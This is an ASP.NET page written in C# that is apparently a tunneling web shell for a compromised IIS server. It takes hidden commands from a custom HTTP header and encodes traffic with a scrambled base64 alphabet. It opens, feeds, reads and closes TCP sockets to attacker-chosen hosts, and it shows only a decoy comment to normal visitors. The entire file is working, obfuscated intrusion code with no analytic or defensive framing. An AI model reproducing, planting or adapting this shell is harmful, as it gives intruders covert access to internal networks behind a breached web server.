<%@ Page Language="C#" EnableSessionState="True"%>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
    const string EnTable = "Mn3kQe8Rr0PpZz9a+BYvJgWc1hXsuDTU/Lt2mFIi7yKxNwH4OboGjdESfCAlqV56";
    const string DeTable = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    static string StrTr(string s, string from, string to) {
        char[] r = s.ToCharArray();
        for (int i = 0; i < r.Length; i++) { int j = from.IndexOf(r[i]); if (j >= 0) r[i] = to[j]; }
        return new string(r);
    }
    static byte[] Dec(string s) { return Convert.FromBase64String(StrTr(s, EnTable, DeTable)); }
</script>
<%
    try {
        String cmd = Request.Headers.Get("Jmfzpwkd");
        if (cmd == null) { Response.Write("<!-- 7f1e0c2b9a -->"); return; }
        String mark = cmd.Substring(0, 22);
        cmd = cmd.Substring(22);
        if (cmd == "hS3kvNcS4mZ") {
            String[] target = System.Text.Encoding.Default.GetString(Dec(Request.Headers.Get("Bvxgwz"))).Split('|');
            Socket sock = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
            sock.Connect(new IPEndPoint(IPAddress.Parse(target[0]), int.Parse(target[1])));
            sock.Blocking = false;
            Application.Add(mark, sock);
            Response.AddHeader("Sdtgbk", "ql8dEX");
        } else if (cmd == "0q4Nfd7gyG") {
            Socket sock = (Socket)Application[mark];
            sock.Close();
            Application.Remove(mark);
        } else if (cmd == "yV2Lo5BXqVR") {
            Socket sock = (Socket)Application[mark];
            byte[] buff = new byte[Request.ContentLength];
            Request.InputStream.Read(buff, 0, buff.Length);
            sock.Send(Dec(System.Text.Encoding.Default.GetString(buff)));
            Response.AddHeader("Sdtgbk", "ql8dEX");
        } else if (cmd == "K7mVb0u9xqT") {
            Socket sock = (Socket)Application[mark];
            byte[] readBuff = new byte[513];
            int c = sock.Receive(readBuff);
            Response.Write(StrTr(Convert.ToBase64String(readBuff, 0, c), DeTable, EnTable));
            Response.AddHeader("Sdtgbk", "ql8dEX");
        }
    } catch (Exception) {
        Response.AddHeader("Sdtgbk", "Kr0vpe");
    }
%>
